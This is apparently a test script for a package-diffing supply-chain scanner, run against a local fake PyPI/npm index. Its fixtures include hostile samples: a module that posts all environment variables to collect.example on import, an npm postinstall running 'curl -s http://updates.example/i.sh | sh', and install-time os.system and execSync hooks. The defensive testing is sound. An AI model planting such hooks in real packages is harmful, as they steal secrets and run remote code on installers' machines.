#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""`tidewaiter diff` of names, of one name alone and of stored profiles, from an index of our own on loopback; and what is said
first of a patch release that begins to run something when it is installed."""
import argparse
import hashlib
import io
import json
import os
import random
import re
import subprocess
import sys
import tarfile
import tempfile
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

passed = failed = 0


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[repr(m)[:1500] for m in more])


def wheel(version, body):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("reef/__init__.py", body)
        z.writestr(f"reef-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n")
        z.writestr(f"reef-{version}.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr(f"reef-{version}.dist-info/RECORD", "")
    return out.getvalue()


def tarball(top, files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for path, text in files.items():
            info = tarfile.TarInfo(f"{top}/{path}")
            info.size = len(text)
            t.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()


def sdist(version, setup):
    return tarball(f"reef-{version}", {"PKG-INFO": f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n", "setup.py": setup, "reef/__init__.py": "X = 1\n"})


def pack(version, body="module.exports = 1;\n", scripts=None):
    manifest = {"name": "reef", "version": version, "main": "index.js", "scripts": scripts or {"test": "true"}}
    return tarball("package", {"package.json": json.dumps(manifest), "index.js": body})


QUIET, LOUD = "X = 1\n", "X = 1\nimport os, urllib.request\nurllib.request.urlopen('http://collect.example/x', data=str(dict(os.environ)).encode())\n"
SETUP = "from setuptools import setup\n{}setup(name='reef')\n"
WHEELS = {"1.9.0": QUIET, "1.10.0": LOUD, "1.2.0": QUIET + "Y = 2\n", "2.0.0rc1": QUIET}
FILES = {f"reef-{v}-py3-none-any.whl": wheel(v, b) for v, b in WHEELS.items()}
FILES["reef-1.10.0.tar.gz"] = sdist("1.10.0", SETUP.format(""))
FILES["lone-1.0-py3-none-any.whl"] = wheel("1.0", QUIET)
PACKS = {"1.9.0": pack("1.9.0"), "1.10.0": pack("1.10.0", scripts={"postinstall": "curl -s http://updates.example/i.sh | sh"}),
         "1.10.0-beta.1": pack("1.10.0-beta.1"), "2.0.0-rc.10": pack("2.0.0-rc.10"), "2.0.0-rc.9": pack("2.0.0-rc.9"), "1.2.0": pack("1.2.0")}


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        parts = self.path.strip("/").split("/")
        body, kind = None, "application/octet-stream"
        if parts[0] == "simple" and parts[-1] in ("reef", "lone"):
            listed = [{"filename": n, "url": "/files/" + n, "hashes": {"sha256": hashlib.sha256(d).hexdigest()}} for n, d in FILES.items() if n.startswith(parts[-1])]
            body, kind = json.dumps({"meta": {"api-version": "1.1"}, "name": parts[-1], "files": listed}).encode(), "application/vnd.pypi.simple.v1+json"
        elif parts == ["npm", "reef"]:
            versions = {v: {"name": "reef", "version": v, "dist": {"tarball": f"/packs/{v}", "shasum": hashlib.sha1(d).hexdigest()}} for v, d in PACKS.items()}
            body, kind = json.dumps({"name": "reef", "dist-tags": {"latest": "1.10.0", "next": "2.0.0-rc.10"}, "versions": versions}).encode(), "application/json"
        elif parts[0] == "files":
            body = FILES.get(parts[1])
        elif parts[0] == "packs":
            body = PACKS.get(parts[1])
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")


class Program:
    def __init__(self, path, tmp):
        self.path, self.tmp = path, tmp
        self.env = {"PATH": os.environ["PATH"], "HOME": str(tmp), "TMPDIR": str(tmp)}

    def __call__(self, *args):
        r = subprocess.run([self.path, *map(str, args)], capture_output=True, timeout=300, env=self.env, cwd=self.tmp, text=True)
        return r.returncode, r.stdout, r.stderr

    def diff(self, *args):
        code, out, err = self("diff", "--format", "json", *args)
        return (json.loads(out) if out else {"from": {}, "to": {}, "items": []}), code, err


def versions(d):
    return d["from"].get("version"), d["to"].get("version")


def names(tw, url):
    simple, npm = ("--index", url + "/simple"), ("--index", url + "/npm")
    d, code, err = tw.diff(*simple, "pypi:reef")
    check(code == 0 and versions(d) == ("1.9.0", "1.10.0") and d["level"] == "high", "a name alone: its last two releases", err, d)
    check(d["to"].get("purl") == "pkg:pypi/reef@1.10.0", "their purls", d["to"])
    d, code, err = tw.diff(*simple, "pypi:reef==1.9.0")
    check(code == 0 and versions(d) == ("1.2.0", "1.9.0") and d["level"] == "none", "a release and the one before it", err, d)
    d, code, err = tw.diff(*simple, "pkg:pypi/reef@2.0.0rc1")
    check(code == 0 and versions(d) == ("1.10.0", "2.0.0rc1"), "a purl alone", err, d)
    d, code, err = tw.diff(*simple, "pypi:reef==1.2.0", "pypi:reef==1.10.0")
    check(code == 0 and versions(d) == ("1.2.0", "1.10.0"), "two names, of which one has an sdist too", err, d)
    d, code, err = tw.diff(*npm, "npm:reef")
    check(code == 0 and versions(d) == ("1.9.0", "1.10.0") and d["level"] == "high", "npm: the release before, by number, no pre-release", err, d)
    first = (d["items"] or [{}])[0]
    check(first.get("trigger") == "install" and first.get("member") == "package/package.json", "a patch release that runs something at install", first)
    d, code, err = tw.diff(*npm, "npm:reef@next")
    check(code == 0 and versions(d) == ("2.0.0-rc.9", "2.0.0-rc.10"), "npm: a tag", err, d)
    code, out, err = tw("diff", *simple, "pypi:lone")
    check(code == 2 and not out and "before 1.0" in err, "a name with one release", code, out, err)
    check(tw("diff", *simple, "reef")[0] == 2, "a path alone is no pair")
    check(not list(Path(tw.tmp).glob("tidewaiter-*")), "nothing is left behind")


def stored(tw, tmp):
    old, new = tmp / "reef-1.9.0-py3-none-any.whl", tmp / "reef-1.10.0-py3-none-any.whl"
    for path in (old, new):
        path.write_bytes(FILES[path.name])
        (tmp / (path.stem + ".json")).write_text(tw("capabilities", "--format", "json", path)[1])
    kept, fresh = tmp / (old.stem + ".json"), tmp / (new.stem + ".json")
    whole = tw.diff(old, new)[0]
    check(whole["level"] == "high" and tw.diff(kept, new)[0] == whole and tw.diff(old, fresh)[0] == whole and tw.diff(kept, fresh)[0] == whole, "a stored profile stands for its artifact")
    back = tw.diff(fresh, old)[0]
    check(versions(back) == ("1.10.0", "1.9.0") and back["level"] == "none", "the order stays that of the arguments", back)
    check(not tw.diff(kept, kept)[0]["items"], "a profile against itself")
    (tmp / "other.json").write_text('{"schema": "tidewaiter.report/1"}')
    (tmp / "deep.json").write_text('{"schema": "tidewaiter.capabilities/1", "capabilities": [' + "[" * 100 + "]" * 100 + "]}")
    (tmp / "odd.json").write_text('{"schema": "tidewaiter.capabilities/1", "capabilities": 7, "files": [1, null, {"path": 3}], "flows": {"from": []}}')
    for name in ("other", "deep", "odd"):
        check(tw("diff", tmp / f"{name}.json", new)[0] in (0, 2), f"what is no profile: {name}")


def mutated(tw, tmp):
    """A stored profile is a stranger's word: whatever it says, there is an answer or a refusal."""
    new = tmp / "reef-1.10.0-py3-none-any.json"
    text, rng = new.read_text(), random.Random(7)
    words = ["null", "[]", "{}", "-1", "1e309", "18446744073709551616", '"\\ud800"', '"' + "x" * 3000 + '"', "true"]
    codes = set()
    for _ in range(60):
        spots = [m.span() for m in re.finditer(r'(?<=:)("[^"]*"|-?[0-9]+|true|false|null)', text)]
        bad = text
        for a, b in sorted(rng.sample(spots, 3), reverse=True):
            bad = bad[:a] + rng.choice(words) + bad[b:]
        (tmp / "bad.json").write_text(bad if rng.random() < 0.8 else bad[: rng.randrange(len(bad))])
        for pair in (("bad.json", new), (new, "bad.json")):
            for how in ((), ("--format", "json"), ("--all",)):
                r = subprocess.run([tw.path, "diff", *how, *map(str, pair)], capture_output=True, env=tw.env, cwd=tw.tmp, timeout=60)
                codes.add(r.returncode)
    check(codes <= {0, 2} and 0 in codes, "profiles changed at random", codes)


def patch_release(tw, tmp):
    """What runs at install comes first, before everything else that is new."""
    noise = "import os, socket, subprocess\ndef a(h):\n    return socket.create_connection((h, 80))\ndef b(x):\n    return subprocess.run(x)\ndef c():\n    return dict(os.environ)\n"
    old, new = tmp / "reef-1.4.1.tar.gz", tmp / "reef-1.4.2.tar.gz"
    old.write_bytes(sdist("1.4.1", SETUP.format("")))
    new.write_bytes(tarball("reef-1.4.2", {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.4.2\n", "setup.py": SETUP.format("import os\nos.system('make tools')\n"), "reef/__init__.py": noise}))
    d = tw.diff(old, new)[0]
    first = d["items"][0]
    check(d["level"] == "high" and first["id"].startswith("exec.") and first["trigger"] in ("install", "build") and first["member"].endswith("setup.py") and first["line"] == 3,
          "exec gained in setup.py", d["level"], first)
    code, out, _ = tw("diff", old, new)
    check(code == 0 and "setup.py:3" in out.split("\n  +")[1] and "installed" in out.split("\n  +")[1], "and in the terminal", out)
    old, new = tmp / "reef-1.4.1.tgz", tmp / "reef-1.4.2.tgz"
    old.write_bytes(pack("1.4.1"))
    new.write_bytes(pack("1.4.2", "require('http');\nexports.f = (x) => require('child_process').execSync(x);\n", {"preinstall": "node index.js && echo done"}))
    d = tw.diff(old, new)[0]
    check(d["items"][0]["trigger"] == "install" and d["items"][0]["change"] == "gained", "a new lifecycle script", d["items"][0])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    path = os.path.abspath(ap.parse_args().tidewaiter)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with tempfile.TemporaryDirectory() as folder:
        tw = Program(path, Path(folder))
        names(tw, f"http://127.0.0.1:{server.server_address[1]}")
        stored(tw, Path(folder))
        mutated(tw, Path(folder))
        patch_release(tw, Path(folder))
    server.shutdown()
    print(f"{passed} passed, {failed} failed")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
